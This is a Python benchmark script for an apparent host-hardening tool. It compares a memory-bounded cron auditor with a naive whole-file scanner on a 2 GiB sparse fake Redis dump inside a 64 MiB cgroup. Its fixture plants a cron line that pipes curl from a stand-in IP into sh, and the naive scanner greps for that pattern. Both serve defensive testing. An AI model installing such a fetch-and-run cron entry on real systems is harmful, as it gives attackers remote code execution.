"""Benchmark: hostguard cron_audit vs a naive read-the-whole-file scanner on seed 000.

A 2 GiB file starting with REDIS0009 is put at <tmp>/var/spool/cron/dump.rdb. The file is
*sparse*: the RDB header and an attack payload are real bytes, the rest is a hole made with
truncate(). A naive scanner that does open().read() still has to materialise 2 GiB of bytes
in its own memory (the hole reads back as zeros), which is the behaviour seed 000 describes,
while the disk cost of the benchmark stays at a few KiB.

Four runs, in one invocation, each in a fresh process:
  hostguard audit() inside a 64 MiB memory cgroup (cgroup v1: memory.limit_in_bytes and
  memory.memsw.limit_in_bytes), naive scanner inside the same kind of cgroup (the kernel
  OOM-kills it: exit 137), then both outside any limit. Peak RSS comes from wait4() rusage
  (ru_maxrss of the child), the cgroup's memory.max_usage_in_bytes and memory.failcnt.

Run as root: python3 bench/cron_bench.py [--size-gib 2]. Cleans up the file and cgroup.
"""
import argparse
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
COLLECTIONS = os.path.join(REPO, ".collections")
CGROUP = "/sys/fs/cgroup/memory/hg-bench-cron"
LIMIT = 64 << 20
PYTHON = "/usr/bin/python3"

HOSTGUARD = r"""
import sys
sys.path.insert(0, %(coll)r)
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
r = cron.audit({"root": %(root)r})
crit = [f["id"] for f in r["findings"] if f["status"] == "fail" and f["severity"] == "critical"]
print("findings=%%d critical=%%s bytes_read=%%d" %% (
    sum(1 for f in r["findings"] if f["status"] == "fail"), ",".join(sorted(set(crit))),
    r["facts"]["bytes_read"]))
"""

# What the agent in seed 000 did: walk the cron locations, read each file whole, grep it.
NAIVE = r"""
import os, re
root = %(root)r
hits = 0
total = 0
for d in ("etc/cron.d", "etc/cron.daily", "etc/cron.hourly", "var/spool/cron", "etc/init.d"):
    base = os.path.join(root, d)
    if not os.path.isdir(base):
        continue
    for name in sorted(os.listdir(base)):
        path = os.path.join(base, name)
        if os.path.isfile(path):
            with open(path, "rb") as f:
                data = f.read()
            total += len(data)
            hits += len(re.findall(rb"curl[^|\n]*\|\s*sh", data))
print("bytes_read=%%d hits=%%d" %% (total, hits))
"""


def make_tree(size):
    top = tempfile.mkdtemp(prefix="hg-bench-cron-")
    for rel in ("etc/cron.d", "etc/cron.daily", "var/spool/cron", "etc/init.d"):
        os.makedirs(os.path.join(top, rel))
    with open(os.path.join(top, "etc/passwd"), "w") as f:
        f.write("root:x:0:0:root:/root:/bin/sh\n")
    with open(os.path.join(top, "etc/cron.d/e2scrub_all"), "w") as f:
        f.write("30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2scrub_all_cron\n")
    path = os.path.join(top, "var/spool/cron/dump.rdb")
    with open(path, "wb") as f:
        f.write(b"REDIS0009\xfa\x09redis-ver\x067.0.15\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x | sh\n\n")
    os.truncate(path, size)
    return top, path


def cgroup_create():
    if os.path.isdir(CGROUP):
        os.rmdir(CGROUP)
    os.mkdir(CGROUP)
    with open(os.path.join(CGROUP, "memory.limit_in_bytes"), "w") as f:
        f.write(str(LIMIT))
    memsw = os.path.join(CGROUP, "memory.memsw.limit_in_bytes")
    if os.path.exists(memsw):
        with open(memsw, "w") as f:
            f.write(str(LIMIT))


def cgroup_read(name):
    with open(os.path.join(CGROUP, name)) as f:
        return int(f.read().strip())


def cgroup_remove():
    for _round in range(50):
        try:
            if os.path.isdir(CGROUP):
                os.rmdir(CGROUP)
            return
        except OSError:
            time.sleep(0.1)


def run(code, in_cgroup):
    """Run ``code`` in a fresh python; return dict with exit, wall, peak RSS, cgroup stats."""
    if in_cgroup:
        cgroup_create()
        argv = ["/bin/sh", "-c", 'echo $$ > %s/cgroup.procs && exec "$0" -c "$1"' % CGROUP, PYTHON, code]
    else:
        argv = [PYTHON, "-c", code]
    start = time.monotonic()
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out = proc.stdout.read()
    err = proc.stderr.read()
    _pid, status, usage = os.wait4(proc.pid, 0)
    wall = time.monotonic() - start
    proc.returncode = 0
    if os.WIFSIGNALED(status):
        code_ = 128 + os.WTERMSIG(status)
    else:
        code_ = os.WEXITSTATUS(status)
    res = {"exit": code_, "wall": wall, "maxrss_kib": usage.ru_maxrss,
           "out": out.decode(errors="replace").strip()[-200:], "err": err.decode(errors="replace").strip()[-200:]}
    if in_cgroup:
        res["cg_max_usage"] = cgroup_read("memory.max_usage_in_bytes")
        res["cg_failcnt"] = cgroup_read("memory.failcnt")
        with open(os.path.join(CGROUP, "memory.oom_control")) as f:
            res["cg_oom_kill"] = dict(line.split() for line in f if line.strip()).get("oom_kill", "?")
        if os.path.exists(os.path.join(CGROUP, "memory.memsw.failcnt")):
            res["cg_failcnt"] = "%d/%d" % (res["cg_failcnt"], cgroup_read("memory.memsw.failcnt"))
        cgroup_remove()
    return res


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--size-gib", type=float, default=2.0)
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("run as root (cgroup v1 memory controller)")
    size = int(args.size_gib * (1 << 30))
    top, path = make_tree(size)
    rows = []
    try:
        for label, code, cg in (
                ("hostguard cron_audit", HOSTGUARD, True),
                ("naive open().read()", NAIVE, True),
                ("hostguard cron_audit", HOSTGUARD, False),
                ("naive open().read()", NAIVE, False)):
            res = run(code % {"coll": COLLECTIONS, "root": top}, cg)
            rows.append((label, "64 MiB cgroup" if cg else "no limit", res))
    finally:
        cgroup_remove()
        os.unlink(path)
        shutil.rmtree(top, ignore_errors=True)
    print("file: %s, %d bytes apparent (sparse), REDIS0009 header" % ("var/spool/cron/dump.rdb", size))
    head = "%-22s %-14s %5s %9s %13s %11s %17s %8s  %s" % (
        "scanner", "memory limit", "exit", "wall s", "peak RSS MiB", "cg max MiB", "failcnt mem/memsw", "oom_kill", "output")
    print(head)
    print("-" * len(head))
    for label, where, res in rows:
        print("%-22s %-14s %5d %9.2f %13.1f %11s %17s %8s  %s" % (
            label, where, res["exit"], res["wall"], res["maxrss_kib"] / 1024.0,
            "%.1f" % (res["cg_max_usage"] / 1048576.0) if "cg_max_usage" in res else "-",
            res.get("cg_failcnt", "-"), res.get("cg_oom_kill", "-"), res["out"] or res["err"][-80:] or ("killed (OOM)" if res["exit"] == 137 else "")))
    ok = rows[0][2]["exit"] == 0 and rows[1][2]["exit"] == 137
    print("\nhostguard completes inside 64 MiB: %s; naive scanner OOM-killed (137) inside 64 MiB: %s"
          % (rows[0][2]["exit"] == 0, rows[1][2]["exit"] == 137))
    return 0 if ok else 1


if __name__ == "__main__":
    signal.signal(signal.SIGINT, signal.default_int_handler)
    sys.exit(main())
